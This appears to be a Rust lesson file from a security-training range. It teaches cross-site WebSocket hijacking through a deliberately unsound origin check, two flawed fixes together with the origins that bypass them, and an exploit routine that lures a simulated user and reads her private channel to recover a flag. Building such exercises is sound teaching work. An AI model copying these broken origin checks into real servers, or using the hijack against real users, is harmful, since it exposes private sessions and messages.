//! NO SECURITY. `cross-site-socket`: any web page may open a connection from its visitor's browser.

use super::talk::{channel, found, user};
use super::{Fate, Fix, Flaw, Lost, Role, Solve, Source, flag_in, still};
use crate::hands::Hands;
use crate::plane::Secrets;
use crate::twins::SOUND;
use crate::world::{HOME, Stage, WorldError};
use portcullis_client_core::Command;
use portcullis_proto::{Access, Code, Refusal};
use portcullis_server_core::defences::{Host, OriginAdmitted, OriginPolicy};
use serde_json::json;

/// The lesson.
pub(super) static FLAW: Flaw = Flaw {
    slug: "cross-site-socket",
    title: "Your page, her browser",
    difficulty: 2,
    cwe: 1385,
    precedent: "CVE-2023-3581 (Mattermost) and CVE-2024-23898 (Jenkins): WebSockets that any page could open",
    role: Role::User,
    solve: Solve::Flag,
    story: "This server also has a web page of its own, https://chat.example, and Mira chats there: her browser keeps her \
            logged in, whatever else she looks at. She opens every address that she reads in #lobby. In #den, to which \
            you are not invited, she and Oleg have left a flag. Put up a page, and have her come.",
    hints: [
        "Put up a page at an address like https://cats.example (the door `page`), say that address in #lobby, and see \
         what comes in.",
        "A browser lets every page open a WebSocket to anywhere, and sends along what makes its user known there. \
         Only the server can tell its own page's request from another's: by the header Origin.",
        "Look at what the server makes of `Origin`: does it look at it, and at all of it?",
        "Each visit gives your page a connection that is Mira's session. Send {\"id\":1,\"request\":\"conversations\",\
         \"data\":{\"after\":null}} on it, take the id of #den, `fetch` that, and decode the bodies: base64, 64 bytes of \
         signature, then JSON.",
    ],
    aftermath: "Whoever is logged in and looks at some other page: it reads and writes as they could. Nothing of theirs \
                shows it; on the wire the upgrade says another `Origin` than the server's own page.",
    sound: Source {
        file: include_str!("../../../crates/server-core/src/defences/admit_origin.rs"),
        function: "admit_origin",
    },
    file: include_str!("cross_site_socket.rs"),
    unsound: "any_origin",
    put: |twins| twins.server.admit_origin = any_origin,
    fixes: &[
        Fix {
            idea: "whoever sends an Origin is a browser, and browsers are refused",
            put: |twins| twins.server.admit_origin = no_browsers,
            function: "no_browsers",
            fate: Fate::Breaks("the server's own page is in a browser, too"),
        },
        Fix {
            idea: "the Origin has to begin with that of the server's own page",
            put: |twins| twins.server.admit_origin = begins_like_ours,
            function: "begins_like_ours",
            fate: Fate::Beaten("https://chat.example.cats.example begins like that", longer),
        },
        Fix {
            idea: "the Origin has to end with the name of the server",
            put: |twins| twins.server.admit_origin = ends_like_ours,
            function: "ends_like_ours",
            fate: Fate::Beaten("https://cats-chat.example ends like that", look_alike),
        },
        Fix::sound(
            "the Origin is one of those that the operator has named, whole, or there is none",
        ),
    ],
    cast,
    react: still,
    exploit,
    honest,
    marker: &MARKER,
};

#[used]
static MARKER: [u8; 37] = *b"portcullis-range/v1/cross-site-socket";

/// The host is looked at, the page is not.
fn any_origin(
    policy: &OriginPolicy,
    _: Option<&str>,
    host: Host<'_>,
) -> Result<OriginAdmitted, Refusal> {
    (SOUND.server.admit_origin)(policy, None, host)
}

/// No page at all.
fn no_browsers(
    policy: &OriginPolicy,
    origin: Option<&str>,
    host: Host<'_>,
) -> Result<OriginAdmitted, Refusal> {
    match origin {
        Some(_) => Err(other_page()),
        None => any_origin(policy, origin, host),
    }
}

/// A page whose origin begins with one of those that are named.
fn begins_like_ours(
    policy: &OriginPolicy,
    origin: Option<&str>,
    host: Host<'_>,
) -> Result<OriginAdmitted, Refusal> {
    let ours = |origin: &str| policy.origins.iter().any(|own| origin.starts_with(own));
    if !origin.is_none_or(ours) {
        return Err(other_page());
    }
    any_origin(policy, origin, host)
}

/// A page whose origin ends with the host of one of those that are named.
fn ends_like_ours(
    policy: &OriginPolicy,
    origin: Option<&str>,
    host: Host<'_>,
) -> Result<OriginAdmitted, Refusal> {
    let names = || policy.origins.iter().filter_map(|own| own.strip_prefix("https://"));
    let ours = |origin: &str| names().any(|name| origin.ends_with(name));
    if !origin.is_none_or(ours) {
        return Err(other_page());
    }
    any_origin(policy, origin, host)
}

fn other_page() -> Refusal {
    Refusal::new(Code::Forbidden, "this host or origin is not admitted")
}

fn cast(stage: &mut Stage<'_>, secrets: &Secrets) -> Result<(), WorldError> {
    stage.person("mira")?;
    stage.person("oleg")?;
    stage.browses("mira")?;
    stage.channel("mira", "#den", Access::Invitation)?;
    let den = stage.place("mira", "#den")?;
    stage.does("mira", Command::Invite(den, user("oleg")?))?;
    stage.does("oleg", Command::Join(channel("#den")?))?;
    stage.says("oleg", "#den", &format!("keep this for me: {}", secrets.flag))?;
    stage.says("mira", "#lobby", &format!("I am at {HOME} all day; send me pages to read"))
}

fn exploit(hands: &mut Hands<'_>) -> Result<Option<String>, Lost> {
    lure(hands, "https://cats.example")
}

/// From a page whose address begins with the server's.
fn longer(hands: &mut Hands<'_>) -> Result<Option<String>, Lost> {
    lure(hands, &format!("{HOME}.cats.example"))
}

/// From a page whose address ends with the server's name.
fn look_alike(hands: &mut Hands<'_>) -> Result<Option<String>, Lost> {
    lure(hands, "https://cats-chat.example")
}

/// Has Mira come to a page, which then reads #den in her browser.
fn lure(hands: &mut Hands<'_>, address: &str) -> Result<Option<String>, Lost> {
    hands.page(address)?;
    hands.says("#lobby", &format!("so many cats: {address}"))?;
    let line = found(hands.visits().pop(), "waiting for a browser's connection")?;
    let listed = hands.ask(line, "conversations", &json!({"after": null}))?;
    let all = listed["conversations"].as_array().map(Vec::as_slice).unwrap_or_default();
    let den = all.iter().find(|conversation| conversation["name"] == "#den");
    let den = found(den, "looking for #den among her conversations")?;
    let page = json!({"conversation": den["conversation"], "after": 0, "limit": 64});
    let page = hands.ask(line, "fetch", &page)?;
    flag_in(&page).map(Some)
}

/// The server's own page works in a browser, and clients that are none work as well.
fn honest(hands: &mut Hands<'_>) -> Result<(), Lost> {
    hands.says("#lobby", "no pages from me today")?;
    if hands.at_home("mira")? {
        return Ok(());
    }
    Err(Lost::new("opening the server's own page", "it gets no connection"))
}
